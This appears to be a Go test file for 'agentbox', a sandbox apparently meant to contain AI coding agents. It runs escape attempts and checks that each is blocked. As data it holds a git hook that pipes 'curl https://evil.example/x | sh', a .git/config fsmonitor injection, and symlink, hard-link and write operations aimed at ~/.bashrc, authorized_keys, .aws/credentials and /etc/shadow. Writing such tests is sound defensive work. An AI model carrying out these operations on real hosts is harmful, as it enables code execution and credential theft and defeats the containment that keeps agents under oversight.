package attack

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// tagFile is a file name that only this test's attacker would create.
func (fx *fixture) tagFile(dir string) string { return filepath.Join(dir, "agentbox-attack-"+fx.tag) }

// TestEscape_WriteOutsideWritableRoots: the first thing every sandbox is tested for
// (ANCHORS vector 1): writes to /etc, the rc files and keys of a home directory, /usr
// and the system binaries, and host paths next to the workspace. Stopped by the tmpfs
// root with read-only binds (the host paths do not exist inside), the unprivileged
// sandbox user, and Landlock (writes only below /workspace and /tmp).
func TestEscape_WriteOutsideWritableRoots(t *testing.T) {
	t.Parallel()
	t.Run("control", func(t *testing.T) {
		requireAttacker(t)
		fx := newFixture(t)
		at := fx.direct(0, nil, "fsops", "openw:"+fx.canary, "create:"+fx.tagFile(fx.dir), "openw:"+filepath.Join(fx.home, ".bashrc"))
		at.mustSucceed(t, "control without a sandbox", "0:openw:"+fx.canary, "1:create:"+fx.tagFile(fx.dir), "2:openw:"+filepath.Join(fx.home, ".bashrc"))
		fx.wantHostChanged(nil, "canary-secret.txt changed")
	})
	t.Run("sandbox", func(t *testing.T) {
		requireSandbox(t)
		fx := newFixture(t)
		system := []string{"/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/usr/bin/env", "/bin/sh", "/root/.bashrc"}
		var ops []string
		for _, p := range system {
			if _, err := os.Stat(p); err == nil {
				fx.protect(p)
			}
			ops = append(ops, "openw:"+p)
		}
		for _, d := range []string{"/etc", "/usr/bin", "/usr/lib", "/bin", "/sbin", "/lib", "/root", "/root/.ssh", fx.dir, fx.home, filepath.Join(fx.home, ".ssh")} {
			ops = append(ops, "create:"+fx.tagFile(d))
		}
		ops = append(ops,
			"openw:"+fx.canary,
			"openw:"+filepath.Join(fx.home, ".bashrc"),
			"openw:"+filepath.Join(fx.home, ".ssh/authorized_keys"),
			"chmod:"+fx.canary+":777",
			"unlink:"+fx.canary,
			"rename:"+fx.canary+":"+fx.canary+".moved",
			"mkdir:"+fx.tagFile("/usr"),
		)
		r := fx.run(boxOpts{cmd: fx.attack("fsops", ops...)})
		r.at.mustBeDone(t, "fsops")
		r.at.mustFail(t, "write outside the writable roots", r.at.withPrefix("")...)
		if len(r.at.order) != len(ops) {
			t.Errorf("attacker reported %d attempts for %d operations", len(r.at.order), len(ops))
		}
		fx.verifyHost(r)
		for _, d := range []string{"/etc", "/usr/bin", "/usr/lib", "/bin", "/sbin", "/lib", "/root", "/root/.ssh", "/usr", "/tmp", fx.dir, fx.home} {
			if _, err := os.Lstat(fx.tagFile(d)); err == nil {
				t.Errorf("HOST CHANGED: %s was created on the host", fx.tagFile(d))
				os.RemoveAll(fx.tagFile(d))
			}
		}
	})
}

// TestEscape_GitHooksThroughOverlay: a protected path inside the writable root
// (ANCHORS vector 2; Anthropic's runtime write-denies .git/hooks and .git/config,
// Codex re-binds .git read-only). A planted hook or a core.fsmonitor/core.hooksPath line
// in .git/config runs code on the host at the user's next git command. Stopped by
// the copy-on-write overlay: the sandbox may change its view, the host workspace never
// changes.
func TestEscape_GitHooksThroughOverlay(t *testing.T) {
	t.Parallel()
	evilHook := "#!/bin/sh\ncurl https://evil.example/x | sh\n"
	t.Run("control", func(t *testing.T) {
		requireAttacker(t)
		fx := newFixture(t)
		hook := filepath.Join(fx.ws, ".git/hooks/pre-commit")
		at := fx.direct(0, nil, "fsops", "write:"+hook+":"+evilHook)
		at.mustSucceed(t, "control without a sandbox", "0:write:"+hook)
		fx.wantHostChanged(nil, "host workspace: .git/hooks/pre-commit changed")
	})
	t.Run("sandbox", func(t *testing.T) {
		requireSandbox(t)
		fx := newFixture(t)
		ops := []string{
			"write:/workspace/.git/hooks/pre-commit:" + evilHook,
			"write:/workspace/.git/hooks/post-checkout:" + evilHook,
			"chmod:/workspace/.git/hooks/post-checkout:755",
			"append:/workspace/.git/config:[core]\n\tfsmonitor = /tmp/evil\n\thooksPath = /tmp\n",
			"unlink:/workspace/.git/HEAD",
			"mkdir:/workspace/.git/info",
			"write:/workspace/README.md:changed by the sandbox\n",
			"rename:/workspace/lockfile:/workspace/renamed",
			"chmod:/workspace/.git/hooks/pre-commit:4777",
			"read:/workspace/README.md",
		}
		r := fx.run(boxOpts{cmd: fx.attack("fsops", ops...)})
		r.at.mustBeDone(t, "fsops")
		// The overlay must really be writable (or this test would prove nothing).
		r.at.mustSucceed(t, "the workspace overlay is writable", "6:write:/workspace/README.md", "9:read:/workspace/README.md")
		if at := r.at.byName["9:read:/workspace/README.md"]; !strings.Contains(at.detail, "changed by the sandbox") {
			t.Errorf("the sandbox did not read back its own write: %q", at.detail)
		}
		fx.verifyHost(r)
	})
}

// TestEscape_PlantedSymlinks: links in the host workspace that point out of it
// (ANCHORS vector 3; bubblewrap CVE-2026-87766 followed a planted link during setup).
// Inside, a link resolves in the sandbox's own root, where the host paths do not exist;
// setup must not follow a .git that is a link either.
func TestEscape_PlantedSymlinks(t *testing.T) {
	t.Parallel()
	plant := func(t *testing.T, fx *fixture) {
		for name, target := range map[string]string{
			"leak-abs":  fx.canary,
			"leak-rel":  "../canary-secret.txt",
			"leak-home": fx.home,
			"leak-etc":  "/etc",
		} {
			if err := os.Symlink(target, filepath.Join(fx.ws, name)); err != nil {
				t.Fatal(err)
			}
		}
	}
	t.Run("control", func(t *testing.T) {
		requireAttacker(t)
		fx := newFixture(t)
		plant(t, fx)
		at := fx.direct(0, nil, "fsops", "read:leak-abs", "read:leak-rel", "read:leak-home/.aws/credentials")
		for _, n := range []string{"0:read:leak-abs", "1:read:leak-rel", "2:read:leak-home/.aws/credentials"} {
			if a := at.byName[n]; !strings.Contains(a.detail, fx.secret) {
				t.Errorf("control: %s did not read the secret through the link: %v", n, a)
			}
		}
	})
	t.Run("sandbox", func(t *testing.T) {
		requireSandbox(t)
		fx := newFixture(t)
		plant(t, fx)
		r := fx.run(boxOpts{cmd: fx.attack("fsops",
			"read:/workspace/leak-abs",
			"read:/workspace/leak-rel",
			"read:/workspace/leak-home/.aws/credentials",
			"read:/workspace/leak-home/.env",
			"ls:/workspace/leak-home",
			"write:/workspace/leak-abs:PWNED",
			"write:/workspace/leak-home/.bashrc:PWNED",
			"read:/workspace/leak-etc/passwd",
		)})
		r.at.mustBeDone(t, "fsops")
		r.at.mustFail(t, "read or write through a planted link",
			"0:read:/workspace/leak-abs", "1:read:/workspace/leak-rel",
			"2:read:/workspace/leak-home/.aws/credentials", "3:read:/workspace/leak-home/.env",
			"4:ls:/workspace/leak-home", "6:write:/workspace/leak-home/.bashrc")
		// The sandbox's own /etc/passwd is fine to read; the host's is not: it has
		// the host's users.
		if at := r.at.byName["7:read:/workspace/leak-etc/passwd"]; at.ok && hostOnlyUser() != "" && strings.Contains(at.detail, hostOnlyUser()) {
			t.Errorf("ESCAPE: /workspace/leak-etc/passwd showed the host's /etc/passwd (user %q)", hostOnlyUser())
		}
		fx.verifyHost(r)
	})
	t.Run("sandbox-git-is-link", func(t *testing.T) {
		requireSandbox(t)
		fx := newFixture(t)
		os.RemoveAll(filepath.Join(fx.ws, ".git"))
		if err := os.Symlink(fx.home, filepath.Join(fx.ws, ".git")); err != nil {
			t.Fatal(err)
		}
		r := fx.run(boxOpts{cmd: fx.attack("fsops",
			"ls:/workspace/.git/",
			"read:/workspace/.git/.aws/credentials",
			"write:/workspace/.git/.bashrc:PWNED",
			"write:/workspace/.git/hooks/pre-commit:PWNED",
		)})
		r.at.mustBeDone(t, "fsops")
		r.at.mustFail(t, "setup or access through a .git link", "0:ls:/workspace/.git/", "1:read:/workspace/.git/.aws/credentials", "2:write:/workspace/.git/.bashrc")
		fx.verifyHost(r)
	})
}

// hostOnlyUser names a user in the host's /etc/passwd that a generated sandbox
// /etc/passwd would not have ("" if none is known).
func hostOnlyUser() string {
	b, _ := os.ReadFile("/etc/passwd")
	for _, u := range []string{"_apt", "systemd-network", "messagebus", "sshd", "daemon"} {
		if strings.Contains(string(b), "\n"+u+":") {
			return u + ":"
		}
	}
	return ""
}

// TestEscape_DiffOutDoesNotFollowLinks: host-side reads of sandbox output (ANCHORS
// vectors 3 and 4). After the run the host diffs the overlay's upper layer; the
// sandbox planted links to host secrets, replaced a tracked file with such a link, and
// left a FIFO. The diff must describe the links (their target text), never read
// through them, and must not block on the FIFO.
func TestEscape_DiffOutDoesNotFollowLinks(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	fx := newFixture(t)
	r := fx.run(boxOpts{diffOut: true, cmd: fx.attack("fsops",
		"symlink:"+fx.canary+":/workspace/new-link",
		"symlink:/etc/shadow:/workspace/shadow-link",
		"unlink:/workspace/README.md",
		"symlink:"+fx.canary+":/workspace/README.md",
		"symlink:"+fx.home+":/workspace/home-link",
		"mkfifo:/workspace/fifo",
		"write:/workspace/plain.txt:plain content\n",
	)})
	r.at.mustBeDone(t, "fsops")
	r.at.mustSucceed(t, "the sandbox may create links and FIFOs in its overlay", r.at.withPrefix("")...)
	if r.res.TimedOut || r.res.Limit != "" {
		t.Errorf("run ended by a limit (%q, timed out %v): diffing the FIFO must not block", r.res.Limit, r.res.TimedOut)
	}
	for _, want := range []string{"new-link", fx.canary, "plain content"} {
		if !strings.Contains(r.diff, want) {
			t.Errorf("--diff-out does not mention %q (want the link's target text, not its content)\n%s", want, r.diff)
		}
	}
	if shadow, err := os.ReadFile("/etc/shadow"); err == nil {
		for _, line := range strings.Split(string(shadow), "\n") {
			f := strings.Split(line, ":")
			if len(f) > 1 && len(f[1]) > 8 && strings.Contains(r.diff, f[1]) {
				t.Errorf("ESCAPE: --diff-out contains a password hash from the host's /etc/shadow")
			}
		}
	}
	fx.verifyHost(r)
}

// TestEscape_RenameAndHardlinkTricks (ANCHORS vector 5): a hard link to a host file
// inside the workspace would let later host-side tooling (or the --write bind) write
// through to it; a hard link to a set-user-ID binary keeps it alive after an update;
// renames could move files out. Stopped by the mount boundaries (EXDEV), the absent
// host paths and read-only binds.
func TestEscape_RenameAndHardlinkTricks(t *testing.T) {
	t.Parallel()
	t.Run("control", func(t *testing.T) {
		requireAttacker(t)
		fx := newFixture(t)
		at := fx.direct(0, nil, "fsops", "link:"+fx.canary+":"+filepath.Join(fx.ws, "canary-hl"))
		at.mustSucceed(t, "control without a sandbox", "0:link:"+fx.canary)
		fx.wantHostChanged(nil, "canary-secret.txt changed")
	})
	t.Run("sandbox", func(t *testing.T) {
		requireSandbox(t)
		fx := newFixture(t)
		fx.protect("/etc/passwd", "/usr/bin/passwd")
		r := fx.run(boxOpts{cmd: fx.attack("fsops",
			"link:/etc/passwd:/workspace/passwd-hl",
			"link:/usr/bin/passwd:/workspace/suid-hl",
			"linkfd:/usr/bin/passwd:/workspace/suid-hl2",
			"link:"+fx.canary+":/workspace/canary-hl",
			"rename:/workspace/README.md:/etc/README.md",
			"rename:/workspace/README.md:"+filepath.Join(fx.dir, "README.md"),
			"rename:/workspace/README.md:/usr/README.md",
			"rename:/workspace:/tmp/ws",
			"link:/workspace/attacker:/usr/bin/attacker",
		)})
		r.at.mustBeDone(t, "fsops")
		r.at.mustFail(t, "hard link or rename across the sandbox boundary", r.at.withPrefix("")...)
		fx.verifyHost(r)
		if _, err := os.Lstat(filepath.Join(fx.dir, "README.md")); err == nil {
			t.Errorf("HOST CHANGED: README.md was renamed out of the workspace onto the host")
		}
	})
}

// TestEscape_OutputFilesDoNotFollowPlantedLinks (ANCHORS vector 4): agentbox writes
// --stdout-file, --stderr-file and --diff-out on the host, as root, with content the
// sandbox controls. If such a path is a link planted by an earlier run (into a --write
// workspace) or planted during this run, following it writes attacker text into
// ~/.bashrc or any file. The host files must stay unchanged whether agentbox refuses
// the path or replaces the link.
func TestEscape_OutputFilesDoNotFollowPlantedLinks(t *testing.T) {
	t.Parallel()
	payload := "echo PWNED-" + randHex(4)
	t.Run("control", func(t *testing.T) {
		requireAttacker(t)
		fx := newFixture(t)
		if err := os.Symlink(fx.canary, filepath.Join(fx.ws, "out.txt")); err != nil {
			t.Fatal(err)
		}
		fx.direct(0, nil, "fsops", "append:"+filepath.Join(fx.ws, "out.txt")+":"+payload)
		fx.wantHostChanged(nil, "canary-secret.txt changed")
	})
	t.Run("planted-before", func(t *testing.T) {
		requireSandbox(t)
		fx := newFixture(t)
		links := map[string]string{
			"out.txt":  fx.canary,
			"err.txt":  filepath.Join(fx.home, ".bashrc"),
			"diff.out": filepath.Join(fx.home, ".ssh/authorized_keys"),
		}
		for name, target := range links {
			if err := os.Symlink(target, filepath.Join(fx.ws, name)); err != nil {
				t.Fatal(err)
			}
		}
		r := fx.run(boxOpts{
			flags: []string{"--stdout-file", filepath.Join(fx.ws, "out.txt"), "--stderr-file", filepath.Join(fx.ws, "err.txt"),
				"--diff-out", filepath.Join(fx.ws, "diff.out")},
			cmd: fx.attack("fsops", "write:/workspace/x:"+payload, "write:/dev/stderr:"+payload),
		})
		// The links themselves are the user's (planted before); agentbox may refuse or
		// replace them, but must not write through them.
		if r.res.Error == "" {
			for name := range links {
				if fi, err := os.Lstat(filepath.Join(fx.ws, name)); err != nil || !fi.Mode().IsRegular() {
					t.Errorf("agentbox neither refused nor replaced the planted link %s (%v)", name, err)
				}
			}
		}
		fx.wsWritable = true
		fx.verifyHost(r)
	})
	t.Run("planted-during", func(t *testing.T) {
		requireSandbox(t)
		fx := newFixture(t)
		fx.wsWritable = true
		out, errf := filepath.Join(fx.ws, "out.txt"), filepath.Join(fx.ws, "err.txt")
		r := fx.run(boxOpts{
			flags: []string{"--write", "--stdout-file", out, "--stderr-file", errf},
			cmd: fx.attack("fsops",
				"unlink:/workspace/out.txt", "symlink:"+fx.canary+":/workspace/out.txt",
				"unlink:/workspace/err.txt", "symlink:"+filepath.Join(fx.home, ".bashrc")+":/workspace/err.txt",
				"write:/dev/stderr:"+payload+"\n", "read:/workspace/out.txt"),
		})
		r.at.mustBeDone(t, "fsops")
		fx.verifyHost(r)
	})
}
